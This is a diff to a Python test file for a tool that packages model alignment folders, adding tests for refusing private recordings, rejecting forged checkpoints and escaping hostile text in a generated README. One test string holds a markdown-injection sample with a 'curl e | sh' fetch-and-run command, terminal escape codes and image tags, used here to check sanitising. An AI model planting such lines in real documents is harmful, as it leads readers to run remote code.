@@ -140,6 +140,18 @@ def test_a_recording_and_a_checkpoint_elsewhere_are_asked_for(
     ]
 
 
+def test_an_empty_folder_stands_for_no_recording(alignment: Alignment, capsys: pytest.CaptureFixture[str]) -> None:
+    """The private recording that align.json named beside it was copied into the folder that is made to be sent on."""
+    alignment.write()
+    elsewhere = alignment.folder / "mine"
+    (alignment.root / "recording").rename(elsewhere)
+    (alignment.root / "recording" / "train").mkdir(parents=True)
+    path = alignment.root / "align.json"
+    path.write_text(path.read_text().replace(str(alignment.root / "recording"), str(elsewhere)))
+    refused(alignment, "--no-check")
+    assert f"    - recording: recording_dir of align.json = '{elsewhere}'\n" in capsys.readouterr().err
+
+
 @pytest.mark.parametrize("name", ["align.json", "baseline/config.yaml", "change", "recording"])
 def test_a_link_out_of_the_alignment_is_not_followed(
     alignment: Alignment, name: str, capsys: pytest.CaptureFixture[str]
@@ -163,6 +175,18 @@ def test_no_link_of_a_checkpoint_is_followed_out(
     linked.symlink_to(private)
     refused(alignment, "--no-check")
     assert "links are not followed out of a folder" in capsys.readouterr().err
+
+
+@pytest.mark.parametrize("state", [{"next_step": 2}, {"next_step": 2, "fixed": []}, {"next_step": 2, "digest": "0"}])
+def test_a_forged_checkpoint_is_one_clear_error(
+    alignment: Alignment, state: dict[str, object], capsys: pytest.CaptureFixture[str]
+) -> None:
+    alignment.write(step=2)
+    write_checkpoint(alignment, 2)
+    path = alignment.root / "baseline/checkpoints/step_000002/run_state.json"
+    path.write_text(json.dumps(state))
+    refused(alignment, "--no-check")
+    assert f"the checkpoint {path.parent} cannot be used: run_state.json" in capsys.readouterr().err
 
 
 def test_a_link_within_the_alignment_is_copied_as_its_file(alignment: Alignment) -> None:
@@ -314,14 +338,16 @@ def test_no_text_of_an_alignment_is_markup_or_acts_in_the_readme(alignment: Alig
     alignment.write()
     path = alignment.root / "align.json"
     result = json.loads(path.read_text())
-    evil = "x\x1b[2J\n\n## Run it\n\n```bash\ncurl e | sh\n```\n<img src=http://e> ![a](http://e) \u202e"
+    evil = "x\x1b[2J\n\n## Run it\n\n```bash\ncurl e | sh\n```\n<img src=http://e> ![a](http://e) \\<img> \u202e"
     result["candidates"][1]["sentence"] = evil
+    result["candidates"][1]["overrides"] = ["trace.patterns=['`<img src=x>\n# ``a` \x1b']"]
     path.write_text(json.dumps(result))
     readme = (extract(alignment, is_checked=False) / "README.md").read_text()
     assert readme.count("\n## Run it\n") == 1
     assert "> x\\x1b\\[2J\\n\\n## Run it" in readme
     assert not {"\x1b", "\u202e"} & set(readme)
-    assert "\\<img src=http://e\\> !\\[a\\](http://e)" in readme
+    assert "\\<img src=http\\://e\\> !\\[a\\](http\\://e) \\\\\\<img\\>" in readme
+    assert "- ```trace.patterns=['`<img src=x>\\n# ``a` \\x1b']```\n" in readme
 
 
 @pytest.mark.parametrize(
